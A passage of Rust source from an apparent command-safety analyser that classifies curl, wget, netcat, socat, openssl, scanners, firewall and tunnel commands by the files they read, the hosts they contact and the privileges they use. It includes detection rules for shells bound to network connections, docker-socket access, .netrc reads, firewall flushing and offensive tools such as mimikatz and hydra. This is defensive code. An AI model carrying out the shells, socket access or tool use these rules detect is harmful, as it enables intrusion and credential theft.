//! Transfers, sockets, name look-ups and network settings of the machine.

use doorward_core::intent::{Direction, PrivilegeKind, WriteMode};

use crate::deed::{Output, StdinRole, Word};

use super::call::Call;
use super::row::{Nature, Row, Style, reads, works};
use super::{url, word};

const CURL: &str = "-#|--progress-bar -0|--http1.0 -1|--tlsv1 -2|--sslv2 -3|--sslv3 -4|--ipv4 -6|--ipv6 -a|--append -A|--user-agent=data -b|--cookie=data -B|--use-ascii -c|--cookie-jar=write -C|--continue-at=num -d|--data|--data-ascii=data --data-binary=data --data-raw=data --data-urlencode=data --json=data -D|--dump-header=write -e|--referer=data -E|--cert=read -f|--fail --fail-with-body --fail-early -F|--form=data \
    --form-string=data --form-escape -g|--globoff -G|--get -h|--help?=data -H|--header=data -i|--include|--show-headers -I|--head -j|--junk-session-cookies -J|--remote-header-name -k|--insecure -K|--config=file:curl -l|--list-only -L|--location --location-trusted -m|--max-time=num -M|--manual -n|--netrc --netrc-file=read --netrc-optional -N|--no-buffer -o|--output=data --output-dir=data -O|--remote-name --remote-name-all \
    -p|--proxytunnel -P|--ftp-port=data -q|--disable -Q|--quote=data -r|--range=data -R|--remote-time -s|--silent -S|--show-error -t|--telnet-option=data -T|--upload-file=data -u|--user=secret -U|--proxy-user=secret -v|--verbose -V|--version -w|--write-out=data -x|--proxy|--preproxy=choose --socks4=choose --socks4a=choose --socks5=choose --socks5-hostname=choose -X|--request=data -y|--speed-time=num -Y|--speed-limit=num -z|--time-cond=data \
    -Z|--parallel --parallel-max=num --abstract-unix-socket=choose --alt-svc=write --anyauth --aws-sigv4=data --basic --bearer=secret --ca-native --cacert=read --capath=look --cert-status --cert-type=data --ciphers=data --compressed --compressed-ssh --connect-timeout=num --connect-to=choose --create-dirs --create-file-mode=data --crlf --crlfile=read --curves=data --delegation=data --digest --dns-servers=choose --doh-url=choose --egd-file=read --engine=choose \
    --etag-compare=read --etag-save=write --expect100-timeout=num --false-start --ftp-create-dirs --ftp-method=data --ftp-pasv --haproxy-protocol --hsts=write --http0.9 --http1.1 --http2 --http2-prior-knowledge --http3 --http3-only --ignore-content-length --interface=choose --ip-tos=num --keepalive-time=num --key=read --key-type=data --krb=data --libcurl=write --limit-rate=num --local-port=data --login-options=data --mail-auth=data --mail-from=data \
    --mail-rcpt=data --max-filesize=num --max-redirs=num --metalink --negotiate --no-alpn --no-buffer --no-clobber --no-keepalive --no-progress-meter --no-sessionid --no-verbose --noproxy=data --ntlm --oauth2-bearer=secret --pass=secret --path-as-is --pinnedpubkey=data --post301 --post302 --post303 --proto=data --proto-default=data --proto-redir=data --proxy-header=data --proxy-insecure --pubkey=read --random-file=read --rate=data \
    --raw --remove-on-error --request-target=data --resolve=choose --retry=num --retry-all-errors --retry-connrefused --retry-delay=num --retry-max-time=num --sasl-ir --service-name=data --ssl --ssl-reqd --ssl-no-revoke --stderr=write --styled-output --suppress-connect-headers --tcp-fastopen --tcp-nodelay --tftp-blksize=num --tls-max=data --tls13-ciphers=data --tlsv1.0 --tlsv1.1 --tlsv1.2 --tlsv1.3 --tr-encoding --trace=write --trace-ascii=write \
    --trace-config=data --trace-ids --trace-time --unix-socket=choose --url=data --url-query=data --variable=data --xattr --skip-existing --no-location --no-fail --no-silent --no-insecure --no-progress";
const WGET: &str = "-V -h|--help -b|--background -e|--execute=data -o|--output-file=write -a|--append-output=append -d|--debug -q|--quiet -v|--verbose -nv|--no-verbose --report-speed=data -i|--input-file=read -F|--force-html -B|--base=data --config=file:wget --rejected-log=write -t|--tries=num --retry-connrefused --retry-on-http-error=data -O|--output-document=data -nc|--no-clobber --no-netrc -c|--continue --start-pos=num --progress=data --show-progress \
    -N|--timestamping --no-if-modified-since --no-use-server-timestamps -S|--server-response --spider -T|--timeout=num --dns-timeout=num --connect-timeout=num --read-timeout=num -w|--wait=num --waitretry=num --random-wait --no-proxy -Q|--quota=num --bind-address=data --limit-rate=num --no-dns-cache --restrict-file-names=data --ignore-case -4|--inet4-only -6|--inet6-only --prefer-family=data --user=data --password=secret --ask-password \
    --use-askpass=prog --no-iri --local-encoding=data --remote-encoding=data --unlink -nd|--no-directories -x|--force-directories -nH|--no-host-directories --protocol-directories -P|--directory-prefix=data --cut-dirs=num --default-page=data -E|--adjust-extension --http-user=data --http-password=secret --no-cache --ignore-length --header=data --compression=data --max-redirect=num --proxy-user=data --proxy-password=secret --referer=data \
    --save-headers -U|--user-agent=data --no-http-keep-alive --no-cookies --load-cookies=read --save-cookies=write --keep-session-cookies --post-data=data --post-file=data --method=data --body-data=data --body-file=data --content-disposition --content-on-error --trust-server-names --auth-no-challenge --secure-protocol=data --https-only --ciphers=data --no-check-certificate --certificate=read --certificate-type=data --private-key=read \
    --private-key-type=data --ca-certificate=read --ca-directory=look --crl-file=read --pinnedpubkey=data --random-file=read --no-hsts --hsts-file=write --ftp-user=data --ftp-password=secret --no-remove-listing --no-glob --no-passive-ftp --preserve-permissions --retr-symlinks --warc-file=write -r|--recursive -l|--level=num --delete-after -k|--convert-links -K|--backup-converted -m|--mirror -p|--page-requisites --strict-comments \
    -A|--accept=data -R|--reject=data --accept-regex=pat --reject-regex=pat --regex-type=data -D|--domains=data --exclude-domains=data --follow-ftp --follow-tags=data --ignore-tags=data -H|--span-hosts -L|--relative -I|--include-directories=data -X|--exclude-directories=data -np|--no-parent --no-verbose -n=data";

pub(super) static ROWS: &[Row] = &[
    works("curl curlie", "curl(1) 8.5", CURL, "").act(curl).prints(Output::Network),
    works("wget wget2", "wget(1) 1.21", WGET, "").act(wget).prints(Output::Network).takes(StdinRole::Ignored),
    works("http https xh xhs httpie", "http(1) HTTPie 3.2", "-j|--json -f|--form --multipart -x|--compress --pretty=data -s|--style=data -p|--print=data -v|--verbose -h|--headers -b|--body -m --all -S|--stream -o|--output=write -d|--download -c|--continue -q|--quiet --session=data --session-read-only=data -a|--auth=secret -A|--auth-type=data --ignore-netrc --offline --proxy=data -F|--follow --max-redirects=num --timeout=num \
        --check-status --verify=data --ssl=data --cert=read --cert-key=read -I|--ignore-stdin --raw=data --boundary=data --bearer=secret", "").act(httpie).prints(Output::Network).takes(StdinRole::Sent),
    works("aria2c axel lftp lftpget ncftpget youtube-dl yt-dlp gallery-dl you-get hurl", "aria2c(1) 1.37", "", "").style(Style::Raw).act(downloader).prints(Output::Network),
    works("nc ncat netcat nc.openbsd nc.traditional", "nc(1) OpenBSD 1.226, ncat(1) 7.94", "-4 -6 -b -C -D -d -F -h -I=num -i=num -k -l -M=num -m=num -N -n -O=num -P=data -p=num -q=num -r -S -s=data -T=data -t -U -u -V=num -v -W=num -w=num -X=data -x=data -Z -z -c|--sh-exec=sh -e|--exec=prog --lua-exec=file:lua --ssl --ssl-verify --listen --keep-open --udp --proxy=data --proxy-type=data --proxy-auth=secret -g=data -G=num \
        --send-only --recv-only -o|--output=write --broker --chat --allow=data --source-port=num", "").act(netcat).prints(Output::Network).takes(StdinRole::Sent),
    works("socat", "socat(1) 1.8", "", "").style(Style::Raw).act(socat).prints(Output::Network).takes(StdinRole::Sent),
    works("telnet ftp tftp rlogin rsh rcp rexec gopher irssi weechat lynx links elinks w3m browsh", "telnet(1) 0.17", "-# -a -4 -6 -8 -E -K -L -X=data -d -e=data -l=data -n=read -x -v -i -p -A -g -dump -source -nolist -listonly -width=num -accept_all_cookies -c=data -T=data -m -b=data -f=data", "").act(plain_host).prints(Output::Network).takes(StdinRole::Sent),
    works("openssl", "openssl(1) 3.0", "", "").style(Style::Raw).act(openssl),
    reads("ping ping6 fping arping tracepath traceroute traceroute6 mtr tcptraceroute iperf iperf3 nping hping3 whois dig host nslookup drill kdig dog delv avahi-resolve tcping httping", "ping(8) iputils 20240117, dig(1) 9.18", "", "").style(Style::Raw).act(look_up).takes(StdinRole::Ignored),
    reads("nmap masscan zmap rustscan nikto gobuster ffuf dirb wfuzz sqlmap hydra medusa john hashcat msfconsole msfvenom crackmapexec enum4linux responder aircrack-ng ettercap bettercap mimikatz linpeas.sh searchsploit", "nmap(1) 7.94", "", "").style(Style::Raw).act(scanner),
    works("tcpdump tshark wireshark dumpcap ngrep snoop tcpflow mitmproxy mitmdump", "tcpdump(8) 4.99", "-# -A -b -B=num -c=num --count -C=num -d -D -e -E=data -f -F=read -G=num -h -H -i|--interface=data -I -j=data -J -K -l -L -m=data -M=data -n -N -O -p -P=data -Q=data -q -r=read -s=num -S -t -T=data -u -U -v -V=read -w=write -W=num -x -X -y=data -z=prog -Z=data -Y=data -R=data -a=data", "data*").act(|call| {
        if !call.any(&["-r", "-D"]) { call.privilege(PrivilegeKind::Capability, "captures network traffic"); }
    }),
    reads("ss netstat ifstat nethogs iftop nload bmon vnstat sockstat lsof fuser-list ipcalc sipcalc ethtool iwconfig iw nmcli networkctl resolvectl systemd-resolve scutil networksetup airport arp route ifconfig ip tc bridge nstat rtmon", "ip(8) iproute2 6.7, ss(8)", "", "").style(Style::Raw).act(settings).takes(StdinRole::Ignored),
    works("iptables ip6tables ebtables arptables nft ufw firewall-cmd pfctl ipfw iptables-restore ip6tables-restore nft-restore ipset fail2ban-client", "iptables(8) 1.8, nft(8) 1.0, ufw(8) 0.36", "", "").style(Style::Raw).act(firewall),
    reads("iptables-save ip6tables-save", "iptables-save(8) 1.8", "-c -t=data -f=write -M=prog", "data*"),
    works("wg wg-quick openvpn tailscale zerotier-cli nebula ngrok cloudflared localtunnel lt bore frpc frps chisel serveo sshuttle tor pagekite", "tailscale 1.58, ngrok 3", "", "").style(Style::Raw).act(tunnel),
    works("mail mailx mutt sendmail s-nail msmtp swaks mailq", "mailx(1) 8.1", "", "").style(Style::Raw).act(mail).takes(StdinRole::Sent),
    works("ldapsearch ldapadd ldapmodify ldapdelete kinit kadmin smbclient rpcclient smbstatus smbget net winexe showmount mount.cifs nfsstat wbinfo snmpwalk snmpget", "ldapsearch(1) 2.6", "", "").style(Style::Raw).act(directory),
    works("s3cmd s5cmd mc gsutil b2 azcopy", "s3cmd 2.4", "", "").style(Style::Raw).act(store),
];

fn is_header(text: &str) -> bool {
    text.starts_with('@')
}

/// A value that may be `@file`: the file, or `-` for standard input.
fn at_file(value: &Word) -> Option<Word> {
    word::after(value, "@")
}

fn curl(call: &mut Call<'_>) {
    if call.any(&["-V", "-M"]) || call.has("-h") && call.operands.is_empty() {
        call.nature = Nature::Reads;
        return;
    }
    let mut body: Vec<String> = Vec::new();
    let mut sends = false;
    let given = call.given.clone();
    for given in &given {
        let Some(value) = &given.value else { continue };
        match given.name {
            "-d" | "--data-binary" | "--json" => {
                sends = true;
                if let Some(file) = at_file(value) {
                    body.push(file.text.clone());
                    call.read(&file);
                }
            }
            "--data-urlencode" | "--variable" | "--url-query" => {
                sends |= given.name == "--data-urlencode";
                let file = at_file(value).or_else(|| {
                    word::halves(value, '@')
                        .filter(|(name, _)| !name.text.contains('='))
                        .map(|(_, file)| file)
                });
                if let Some(file) = file {
                    body.push(file.text.clone());
                    call.read(&file);
                }
            }
            "--data-raw" | "--form-string" => sends = true,
            "-F" => {
                sends = true;
                if let Some((_, value)) = word::halves(value, '=')
                    && let Some(file) = word::after(&value, "@").or_else(|| word::after(&value, "<"))
                {
                    let file = word::split(&file, ';').into_iter().next().unwrap_or(file);
                    for file in word::split(&file, ',') {
                        body.push(file.text.clone());
                        call.read(&file);
                    }
                }
            }
            "-T" => {
                sends = true;
                body.push(value.text.clone());
                call.read(value);
            }
            "-H" | "--proxy-header" => {
                if is_header(&value.text)
                    && let Some(file) = at_file(value)
                {
                    body.push(file.text.clone());
                    call.read(&file);
                }
            }
            "-b" if !value.text.contains('=') => {
                body.push(value.text.clone());
                call.read(value);
            }
            "-x" | "--socks4" | "--socks4a" | "--socks5" | "--socks5-hostname" => {
                call.contact(value, "http", Direction::Both, Vec::new())
            }
            "--unix-socket" | "--abstract-unix-socket" => {
                call.read(value);
                if value.text.contains("docker.sock")
                    || value.text.contains("containerd")
                    || value.text.contains("podman")
                {
                    call.privilege(PrivilegeKind::ContainerEscape, "talks to the container daemon's socket");
                }
            }
            "-E" | "--key" => {}
            _ => {}
        }
    }
    if call.any(&["-n", "--netrc-optional"]) {
        call.read(&Word::literal("~/.netrc", call.span()));
    }
    let method = call.value("-X").map(|method| method.text.to_ascii_uppercase());
    let sends = match method.as_deref() {
        Some("GET" | "HEAD" | "OPTIONS") => sends && !body.is_empty(),
        Some(_) => true,
        None => sends && (!call.has("-G") || !body.is_empty()),
    };
    let direction = if sends { Direction::Send } else { Direction::Fetch };
    if !body.is_empty() {
        call.deeds.reads.iter_mut().for_each(|read| read.reaches_host = true);
    }
    if body.iter().any(|file| file == "-" || file == ".") {
        call.deeds.stdin = StdinRole::Sent;
    }
    let mut urls = call.operands.clone();
    urls.extend(call.values("--url"));
    for target in &urls {
        let expanded = target.clone();
        if target.text.starts_with("file:") {
            let path = target.text.trim_start_matches("file:");
            let path = path.strip_prefix("//").map_or(path, |path| path.trim_start_matches("localhost"));
            let path = word::instead(target, super::url::percent_decoded(path));
            call.read(&path);
            continue;
        }
        call.contact(&expanded, "http", direction, body.clone());
    }
    outputs(call, &urls);
    if method.as_deref() == Some("DELETE") {
        call.finding("shell.data_loss", "asks a server to delete");
    }
}

fn outputs(call: &mut Call<'_>, urls: &[Word]) {
    let folder = call
        .value("--output-dir")
        .map(|folder| format!("{}/", folder.text.trim_end_matches('/')))
        .unwrap_or_default();
    let files = call.values("-o");
    let mut printed = files.is_empty() || files.iter().any(|file| file.text == "-");
    for file in files {
        let file = word::instead(
            &file,
            format!(
                "{}{}",
                if file.text == "-" || file.text.starts_with('/') { "" } else { &folder },
                file.text
            ),
        );
        call.download(&file);
        call.beyond_plain |= !matches!(file.text.as_str(), "-" | "/dev/null");
    }
    if call.any(&["-O", "--remote-name-all", "-J"]) {
        printed = false;
        for target in urls {
            let name = file_name(&target.text);
            let file = word::instead(target, format!("{folder}{name}"));
            call.download(&file);
            call.beyond_plain = true;
        }
    }
    call.deeds.output = if printed { Output::Network } else { Output::Nothing };
}

/// The last part of a URL's path, as downloaders name files.
fn file_name(text: &str) -> String {
    let path = text.split(['?', '#']).next().unwrap_or_default();
    let rest = path.split_once("://").map_or(path, |(_, rest)| rest);
    match rest.rsplit_once('/') {
        Some((_, name)) if !name.is_empty() => name.to_owned(),
        _ => "index.html".to_owned(),
    }
}

fn wget(call: &mut Call<'_>) {
    if call.has("-V") {
        call.nature = Nature::Reads;
        return;
    }
    let mut body = Vec::new();
    let mut sends = call.any(&["--post-data", "--body-data"]);
    for name in ["--post-file", "--body-file"] {
        for file in call.values(name) {
            sends = true;
            body.push(file.text.clone());
            call.read(&file);
        }
    }
    if !body.is_empty() {
        call.deeds.reads.iter_mut().for_each(|read| read.reaches_host = true);
    }
    for setting in call.values("-e") {
        if let Some((name, value)) = word::halves(&setting, '=') {
            match name.text.trim().replace(['_', '-'], "").to_ascii_lowercase().as_str() {
                "useaskpass" => call.run_argv(vec![value]),
                "outputdocument" | "logfile" => call.write(&value, WriteMode::Create),
                "httpproxy" | "httpsproxy" => call.contact(&value, "http", Direction::Both, Vec::new()),
                _ => {}
            }
        }
    }
    let direction = if sends { Direction::Send } else { Direction::Fetch };
    let urls = call.operands.clone();
    for target in &urls {
        call.contact(target, "http", direction, body.clone());
    }
    if call.has("-i") {
        call.contact_unknown("http", direction);
    }
    if call.has("--spider") {
        return;
    }
    match call.value("-O") {
        Some(file) => {
            call.download(&file);
            if !matches!(file.text.as_str(), "-" | "/dev/null" | "/dev/stdout") {
                call.beyond_plain = true;
                call.deeds.output = Output::Nothing;
            }
        }
        None => {
            call.deeds.output = Output::Nothing;
            let folder = call
                .value("-P")
                .map(|folder| format!("{}/", folder.text.trim_end_matches('/')))
                .unwrap_or_default();
            for target in &urls {
                let file = word::instead(target, format!("{folder}{}", file_name(&target.text)));
                call.download(&file);
            }
            // A file of its own name in the folder is what plain wget does.
            if folder.is_empty() && !call.has("-i") {
                call.nature = Nature::Named;
            }
        }
    }
}

fn httpie(call: &mut Call<'_>) {
    let mut operands = call.operands.clone();
    let mut method = None;
    if operands.len() > 1
        && operands.first().is_some_and(|first| first.text.bytes().all(|byte| byte.is_ascii_uppercase()))
    {
        method = Some(operands.remove(0).text);
    }
    if operands.is_empty() {
        return;
    }
    let target = operands.remove(0);
    let mut body = Vec::new();
    for item in &operands {
        if let Some((_, file)) = word::halves(item, '@') {
            body.push(file.text.clone());
            call.read(&file);
        }
    }
    let sends = method
        .as_deref()
        .map_or(!operands.is_empty(), |method| !matches!(method, "GET" | "HEAD" | "OPTIONS"));
    let direction = if sends { Direction::Send } else { Direction::Fetch };
    call.contact(&target, "http", direction, body);
}

fn downloader(call: &mut Call<'_>) {
    let words = call.operands.clone();
    let mut before = String::new();
    for word in &words {
        if matches!(before.as_str(), "-o" | "--output" | "-O" | "--out" | "-d" | "--dir" | "-P") {
            call.download(word);
            call.beyond_plain = true;
        } else if matches!(
            before.as_str(),
            "--exec" | "--on-download-complete" | "-e" | "-c" | "--external-downloader"
        ) {
            // lftp's are commands of its own, and `!` runs a shell.
            if call.program == "lftp" {
                call.run_language("ftp", word.clone())
            } else {
                call.run_shell(word.clone())
            }
        } else if word.text.contains("://") {
            call.contact(word, "https", Direction::Fetch, Vec::new());
            if matches!(call.program.as_str(), "aria2c" | "axel") {
                call.download(&word::instead(word, file_name(&word.text)));
            }
        } else if let Some((option, value)) = word::halves(word, '=')
            && (option.text.starts_with("--on-") || option.text == "--exec")
        {
            call.run_shell(value);
        }
        before.clone_from(&word.text);
    }
    if call.deeds.hosts.is_empty() {
        call.contact_unknown("https", Direction::Both);
    }
    call.deeds.output = Output::Other;
}

fn netcat(call: &mut Call<'_>) {
    hands_out_shell(call);
    if call.any(&["-l", "--listen"]) {
        let port = call
            .value("-p")
            .or_else(|| call.operands.last().cloned())
            .and_then(|port| port.text.parse().ok());
        return call.listen("*", port, "tcp");
    }
    let Some(host) = call.operand(0) else { return };
    if call.has("-U") {
        return call.write(&host, WriteMode::InPlace);
    }
    let direction = if call.has("-z") { Direction::Fetch } else { Direction::Both };
    let body = if matches!(call.argv.stdin, crate::deed::Stdin::Inherited) {
        Vec::new()
    } else {
        vec!["-".to_owned()]
    };
    call.contact(&host, "tcp", direction, body);
    let port = call.operand(1).and_then(|port| port.text.parse().ok());
    if let (Some(port), Some(host)) = (port, call.deeds.hosts.last_mut()) {
        host.port = Some(port);
    }
}

fn socat(call: &mut Call<'_>) {
    for address in call.operands.clone() {
        if address.text.starts_with('-') && address.text.len() > 1 {
            continue;
        }
        let Some((kind, rest)) = word::halves(&address, ':') else {
            if !matches!(
                address.text.as_str(),
                "-" | "STDIO" | "STDIN" | "STDOUT" | "PIPE" | "stdio" | "READLINE" | "readline"
            ) && address.text.contains(['/', '.'])
            {
                call.write(&address, WriteMode::InPlace);
            }
            continue;
        };
        let target = word::split(&rest, ',').into_iter().next().unwrap_or_else(|| rest.clone());
        let kind = kind.text.to_ascii_uppercase();
        match kind.as_str() {
            "EXEC" => {
                let words = word::fields(&target);
                call.run_argv(words);
            }
            "SYSTEM" | "SHELL" => call.run_shell(target),
            "OPEN" | "FILE" | "CREATE" | "CREAT" | "GOPEN" | "PIPE" | "UNIX-LISTEN" | "UNIX"
            | "UNIX-CONNECT" => {
                call.read(&target);
                call.write(&target, WriteMode::InPlace);
                call.beyond_plain = true;
            }
            kind if kind.contains("LISTEN") || kind.contains("RECV") => {
                let port = target.text.parse().ok();
                call.listen("*", port, "tcp");
            }
            kind if kind.starts_with("TCP")
                || kind.starts_with("UDP")
                || kind.starts_with("OPENSSL")
                || kind.starts_with("SSL")
                || kind.starts_with("SCTP")
                || kind.starts_with("PROXY")
                || kind.starts_with("SOCKS")
                || kind.starts_with("IP") =>
            {
                call.contact(&target, "tcp", Direction::Both, vec!["-".to_owned()]);
            }
            _ => {
                call.deeds.known = false;
                call.finding(
                    "shell.unknown_program",
                    format!("the socat address {kind} is not in the tables"),
                );
            }
        }
    }
    hands_out_shell(call);
}

/// A shell whose input and output are a connection.
fn hands_out_shell(call: &mut Call<'_>) {
    let shell = call.deeds.runs.iter().any(|run| match run {
        crate::deed::Run::Argv { words, .. } => {
            { words.iter().map(|word| word.text.as_str()).collect::<Vec<_>>().join(" ") }
                .split(',')
                .next()
                .is_some_and(crate::languages::is_interpreter)
        }
        crate::deed::Run::Shell { text, .. } => crate::languages::is_interpreter(&text.text),
        _ => false,
    });
    if shell {
        call.finding("shell.remote_code", "a shell runs what comes over a connection");
    }
}

fn plain_host(call: &mut Call<'_>) {
    if matches!(call.program.as_str(), "ftp" | "tftp") {
        if !matches!(call.argv.stdin, crate::deed::Stdin::Inherited) {
            call.run_stdin("ftp", Vec::new());
        }
        // `tftp HOST -c put FILE`.
        if let Some(verb) = call.value("-c").filter(|verb| matches!(verb.text.as_str(), "put" | "get")) {
            for file in call.operands_from(1) {
                if verb.text == "put" { call.read(&file) } else { call.download(&file) }
            }
            if verb.text == "put" {
                call.finding("shell.upload", "sends a file to another machine");
            }
        }
    }
    if let Some(host) = call.operand(0) {
        let text_browser = matches!(call.program.as_str(), "lynx" | "links" | "elinks" | "w3m" | "browsh");
        if text_browser && (host.text.starts_with(['.', '/', '~']) || host.text.starts_with("file:")) {
            let path = word::after(&host, "file://").or_else(|| word::after(&host, "file:")).unwrap_or(host);
            return call.read(&path);
        }
        let scheme = if host.text.contains("://") { "https" } else { "tcp" };
        if host.text.contains("://")
            || !std::path::Path::new(&host.text)
                .extension()
                .is_some_and(|extension| extension == "html" || extension == "htm")
        {
            call.contact(&host, scheme, Direction::Both, Vec::new());
        } else {
            call.read(&host);
        }
        if let (Some(port), Some(last)) =
            (call.operand(1).and_then(|port| port.text.parse().ok()), call.deeds.hosts.last_mut())
        {
            last.port = Some(port);
        }
    }
}

fn openssl(call: &mut Call<'_>) {
    let words = call.operands.clone();
    let verb = words.first().map(|verb| verb.text.clone()).unwrap_or_default();
    let mut reads_only = !matches!(
        verb.as_str(),
        "req" | "genrsa" | "genpkey" | "ca" | "s_server" | "s_client" | "s_time" | "ocsp" | "enc" | "rehash"
    );
    let mut iter = words.iter().skip(1);
    while let Some(word) = iter.next() {
        match word.text.as_str() {
            "-in" | "-inkey" | "-key" | "-CA" | "-CAkey" | "-CAfile" | "-cert" | "-certfile" | "-kfile"
            | "-config" | "-extfile" | "-sign" | "-verify" | "-signature" | "-untrusted" | "-rand" => {
                if let Some(file) = iter.next() {
                    call.read(file);
                }
            }
            "-out" | "-keyout" | "-writerand" | "-CAserial" => {
                if let Some(file) = iter.next() {
                    reads_only = false;
                    call.beyond_plain = true;
                    call.write(file, WriteMode::Create);
                }
            }
            "-engine" | "-provider" | "-provider-path" => {
                if let Some(file) = iter.next()
                    && !matches!(file.text.as_str(), "default" | "legacy" | "base" | "fips")
                {
                    call.run_native(file);
                }
            }
            "-connect" | "-host" | "-url" => {
                if let Some(host) = iter.next() {
                    let nothing =
                        matches!(call.argv.stdin, crate::deed::Stdin::Inherited) || call.stdin_is_empty();
                    let body = if nothing { Vec::new() } else { vec!["-".to_owned()] };
                    call.contact(host, "tls", Direction::Both, body);
                    call.deeds.stdin = StdinRole::Sent;
                    call.deeds.output = Output::Network;
                }
            }
            "-pass" | "-passin" | "-passout" => {
                if let Some(source) = iter.next()
                    && let Some(file) = word::after(source, "file:")
                {
                    call.read(&file);
                }
            }
            _ => {}
        }
    }
    if verb == "engine" {
        words
            .iter()
            .skip(1)
            .filter(|word| !word.text.starts_with('-'))
            .for_each(|engine| call.run_native(engine));
        reads_only = call.deeds.runs.is_empty();
    }
    if verb == "s_server" {
        call.listen("*", None, "tls");
    }
    if matches!(verb.as_str(), "enc" | "base64" | "smime" | "cms" | "pkeyutl" | "rsautl" | "zlib") {
        let decodes =
            call.argv.words.iter().any(|word| matches!(word.text.as_str(), "-d" | "-decrypt" | "-a"));
        call.deeds.output = if decodes { Output::Decoded } else { Output::Filtered };
        reads_only = call.deeds.writes.is_empty();
    }
    if matches!(verb.as_str(), "" | "sh") {
        reads_only = false;
    }
    if reads_only {
        call.nature = Nature::Reads;
    }
}

/// Look-ups: a name goes out, little comes back; data can leave in the name.
fn look_up(call: &mut Call<'_>) {
    const TAKES: &str = "-c -i -W -w -s -t -I -p -m -q -b -k -y -f -x -l -Q -T -S -h -M";
    let flood = call.operands.iter().any(|word| word.text == "-f") && call.program.starts_with("ping");
    if flood || call.program == "hping3" {
        call.finding("shell.resource", "floods a host");
    }
    let words = call.operands.clone();
    let mut iter = words.iter();
    let mut hosts = Vec::new();
    while let Some(word) = iter.next() {
        let text = word.text.as_str();
        if let Some(server) = word::after(word, "@") {
            hosts.push(server);
        } else if text.starts_with('-') && text.len() == 2 && TAKES.split(' ').any(|own| own == text) {
            if let Some(value) = iter.next()
                && (text == "-x"
                    || text == "-h" && call.program == "whois"
                    || text == "-c" && call.program.starts_with("iperf"))
            {
                hosts.push(value.clone());
            }
        } else if !text.starts_with(['-', '+'])
            && !matches!(
                text,
                "A" | "AAAA"
                    | "MX"
                    | "NS"
                    | "TXT"
                    | "SOA"
                    | "CNAME"
                    | "ANY"
                    | "PTR"
                    | "SRV"
                    | "any"
                    | "mx"
                    | "txt"
                    | "ns"
                    | "IN"
            )
            && text.parse::<f64>().is_err()
        {
            hosts.push(word.clone());
        }
    }
    let scheme =
        if call.program.starts_with("ping") || call.program.contains("trace") || call.program == "mtr" {
            "icmp"
        } else {
            "dns"
        };
    for host in &hosts {
        call.contact(host, scheme, Direction::Both, Vec::new());
    }
}

fn scanner(call: &mut Call<'_>) {
    call.nature = Nature::Works;
    let words = call.operands.clone();
    let mut iter = words.iter();
    while let Some(word) = iter.next() {
        match word.text.as_str() {
            "-oN" | "-oX" | "-oG" | "-oA" | "-o" => {
                if let Some(file) = iter.next() {
                    call.beyond_plain = true;
                    call.write(file, WriteMode::Create);
                }
            }
            "-iL" => {
                if let Some(file) = iter.next() {
                    call.read(file);
                }
            }
            "--script" => {
                if let Some(script) = iter.next().filter(|script| script.text.contains('/')) {
                    call.run_file(script, "lua", Vec::new());
                }
            }
            "-p" | "--top-ports" | "-T" | "--max-rate" | "-w" | "-u" | "-l" | "-P" | "-L" => {
                iter.next();
            }
            text if text.starts_with("--script=") && text.contains('/') => {
                if let Some((_, script)) = word::halves(word, '=') {
                    call.run_file(&script, "lua", Vec::new());
                }
            }
            text if !text.starts_with('-') && call.program == "nmap" => {
                call.contact(word, "scan", Direction::Both, Vec::new())
            }
            _ => {}
        }
    }
    if matches!(call.program.as_str(), "nmap" | "rustscan") {
        return;
    }
    call.finding("shell.tamper", format!("{} attacks passwords, hosts or services", call.program));
}

/// Interfaces, routes, sockets: showing reads, changing needs privilege.
fn settings(call: &mut Call<'_>) {
    const CHANGES: &str = "add del delete set change replace flush up down append restore hw mtu netmask exec \
        connect disconnect reload modify import clone edit bind unbind unmanage dns domain revert flush-caches reset-statistics -setdnsservers -setwebproxy -setv4off";
    let operands = call.operands.clone();
    let words: Vec<&str> = operands.iter().map(|word| word.text.as_str()).collect();
    let exec = words.iter().position(|word| *word == "exec").filter(|_| call.program == "ip");
    if let Some(at) = exec {
        call.privilege(PrivilegeKind::ContainerEscape, "runs inside a network namespace");
        let words = call.operands_from(at + 2);
        return call.run_argv(words);
    }
    let batch = call.program == "ip" && words.iter().any(|word| matches!(*word, "-b" | "-batch"));
    let kills = call.program == "ss" && words.iter().any(|word| matches!(*word, "-K" | "--kill"));
    let alters = match call.program.as_str() {
        "ip" | "tc" | "bridge" | "route" | "ifconfig" | "arp" | "nmcli" | "networkctl" | "resolvectl"
        | "iw" | "iwconfig" | "networksetup" | "scutil" => {
            words.iter().any(|word| CHANGES.split_ascii_whitespace().any(|own| own == *word))
                || call.program == "ifconfig"
                    && words.iter().filter(|word| !word.starts_with('-')).count() > 1
                || call.program == "arp" && words.iter().any(|word| matches!(*word, "-d" | "-s"))
        }
        "ethtool" => {
            words.iter().any(|word| matches!(*word, "-s" | "-K" | "-G" | "-A" | "-C" | "-E" | "--change"))
        }
        _ => false,
    };
    if alters || batch || kills {
        call.privilege(PrivilegeKind::Kernel, "changes network settings");
    }
    if call.program == "resolvectl"
        && words.first() == Some(&"query")
        && let Some(host) = call.operand(1)
    {
        call.contact(&host, "dns", Direction::Both, Vec::new());
    }
}

fn firewall(call: &mut Call<'_>) {
    let operands = call.operands.clone();
    let words: Vec<&str> = operands.iter().map(|word| word.text.as_str()).collect();
    let lists = words.iter().any(|word| {
        matches!(
            *word,
            "-L" | "--list"
                | "-S"
                | "--list-rules"
                | "list"
                | "status"
                | "--state"
                | "--list-all"
                | "--get-active-zones"
                | "show"
                | "-s"
                | "-n"
                | "-V"
                | "--version"
        )
    }) && !words.iter().any(|word| {
        matches!(
            *word,
            "-F" | "-A" | "-D" | "-I" | "-X" | "-Z" | "-P" | "flush" | "delete" | "add" | "--add-port" | "-f"
        )
    });
    if lists {
        call.nature = Nature::Reads;
        return;
    }
    call.privilege(PrivilegeKind::Kernel, "changes the firewall");
    let off = words.iter().any(|word| {
        matches!(
            *word,
            "-F" | "--flush" | "-X" | "flush" | "disable" | "reset" | "-d" | "stop" | "--panic-off"
        )
    });
    if off {
        call.finding("shell.tamper", "opens or switches off the firewall");
    }
}

fn tunnel(call: &mut Call<'_>) {
    let first = call.first().unwrap_or_default().to_owned();
    if matches!(first.as_str(), "status" | "version" | "show" | "ip" | "netcheck" | "info" | "--version")
        || call.program == "wg" && first.is_empty()
    {
        call.nature = Nature::Reads;
        return;
    }
    call.contact_unknown("tunnel", Direction::Both);
    call.finding("shell.upload", format!("{} opens a way into or out of this machine", call.program));
}

fn mail(call: &mut Call<'_>) {
    let words = call.operands.clone();
    let mut iter = words.iter();
    let mut body = vec!["-".to_owned()];
    let mut to = Vec::new();
